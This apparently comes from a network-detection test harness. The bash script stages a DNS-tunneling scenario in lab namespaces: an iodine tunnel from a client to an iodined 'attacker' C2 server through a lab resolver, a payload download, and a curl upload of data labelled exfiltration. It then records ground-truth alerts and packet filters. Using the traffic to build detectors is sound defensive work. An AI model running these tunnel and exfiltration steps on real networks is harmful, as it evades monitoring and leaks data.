#!/usr/bin/env bash
# dns-tunnel: iodine on a PC tunnels IP through the office resolver (dnsmasq forwards t.tun.example
# to iodined on the attacker's server). Over the tunnel the PC downloads 8 KB and uploads 8 KB
# (exfiltration) with curl. Bounded by iodine's own timeouts and LAB_CMD_TIMEOUT.
# requires: iodine:iodine iodined:iodine dnsmasq:dnsmasq-base curl:curl python3:python3
source "$(dirname "$0")/../lab.sh"
lab_start "$@"
TUN_DOMAIN=t.tun.example
TUN_SERVER=10.77.9.1
lab_dns --server="/$TUN_DOMAIN/$C2"
lab_host c2 "$C2"
lab_host client "$CLIENT"
tunnel_secret=$(openssl rand -hex 8)

lab_capture_start
lab_bg c2 iodined iodined -f -c -l "$C2" -P "$tunnel_secret" "$TUN_SERVER/27" "$TUN_DOMAIN"
lab_wait_udp c2 53
lab_bg client iodine iodine -f -r -P "$tunnel_secret" "$DNS" "$TUN_DOMAIN"
for ((i = 0; i < 200; i++)); do
  ip -n "${LAB_PREFIX}client" -4 addr show dev dns0 2>/dev/null | grep -q 'inet ' && break
  sleep 0.1
done
ip -n "${LAB_PREFIX}client" -4 addr show dev dns0 2>/dev/null | grep -q 'inet ' || lab_die "tunnel did not come up"
lab_bg c2 tunnel-web /usr/bin/python3 "$LAB_HOME/webserver.py" --bind "$TUN_SERVER" --port 8080 --lifetime 60
lab_wait_tcp client "$TUN_SERVER" 8080
head -c 8192 /dev/urandom | base64 -w 0 | head -c 8192 > "$LAB_DIR/exfil.txt"
lab_exec client curl -s -o /dev/null --max-time 40 "http://$TUN_SERVER:8080/files/payload.bin"
lab_exec client curl -s -o /dev/null --max-time 40 --data-binary @"$LAB_DIR/exfil.txt" "http://$TUN_SERVER:8080/upload"
lab_capture_stop

lab_truth <<JSON
{
  "scenario": "dns-tunnel",
  "description": "iodine IP-over-DNS tunnel through the lab resolver to iodined for $TUN_DOMAIN; 8 KB down, 8 KB up",
  "hosts": { "client": "$CLIENT", "dns": "$DNS", "tunnelServer": "$C2" },
  "attacker": "$C2",
  "victim": "$CLIENT",
  "protocol": "dns",
  "facts": { "tunnelDomain": "$TUN_DOMAIN", "registeredDomain": "tun.example", "downloadBytes": 8201, "uploadBytes": 8192 },
  "alerts": [ { "type": "dns_tunneling", "src": "$CLIENT", "dst": "$DNS", "dstPort": 53 } ],
  "maxSeverity": null,
  "checks": [
    { "name": "tunnel queries from the PC", "filter": "ip.src == $CLIENT && dns.flags.response == 0 && dns.qry.name contains \"$TUN_DOMAIN\"", "atLeast": 100 },
    { "name": "forwarded to iodined", "filter": "ip.src == $DNS && ip.dst == $C2 && dns.flags.response == 0", "atLeast": 100 },
    { "name": "NULL records", "filter": "dns.qry.type == 10", "atLeast": 100 }
  ]
}
JSON
